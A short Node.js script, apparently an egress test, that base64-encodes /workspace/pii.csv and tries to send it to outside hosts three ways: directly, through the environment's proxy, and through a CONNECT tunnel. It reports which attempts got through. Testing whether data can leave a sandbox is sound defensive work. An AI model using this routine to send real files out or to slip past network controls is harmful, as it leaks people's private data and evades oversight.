// Tries to send pii.csv, base64, to each HOST:PORT argument in three ways, and prints what came of each:
// a plain connection, an HTTP request through the proxy of the environment, and a CONNECT tunnel through it.
import { readFileSync } from "node:fs";
import http from "node:http";

const data = encodeURIComponent(readFileSync("/workspace/pii.csv").toString("base64"));
const proxy = new URL(process.env.HTTP_PROXY ?? "http://127.0.0.1:3128");

function attempt(way, target, options) {
  return new Promise((resolve) => {
    const done = (outcome) => {
      console.log(`${way} ${target}: ${outcome}`);
      resolve();
    };
    const request = http.request({ ...options, agent: false, timeout: 10_000 });
    request.on("response", (response) => {
      response.resume();
      done(response.statusCode < 400 ? `SENT, status ${response.statusCode}` : `status ${response.statusCode}`);
    });
    request.on("connect", (response, socket) => {
      socket.destroy();
      done(response.statusCode < 400 ? `SENT, status ${response.statusCode}` : `status ${response.statusCode}`);
    });
    request.on("timeout", () => request.destroy(Object.assign(new Error(), { code: "TIMEOUT" })));
    request.on("error", (error) => done(error.code));
    request.end();
  });
}

for (const target of process.argv.slice(2)) {
  const [host, port] = target.split(":");
  const path = `/?q=${data}`;
  await attempt("direct", target, { host, port, path });
  await attempt("proxy", target, { host: proxy.hostname, port: proxy.port, path: `http://${target}${path}`, headers: { Host: target } });
  await attempt("tunnel", target, { host: proxy.hostname, port: proxy.port, method: "CONNECT", path: target, headers: { Host: target } });
}
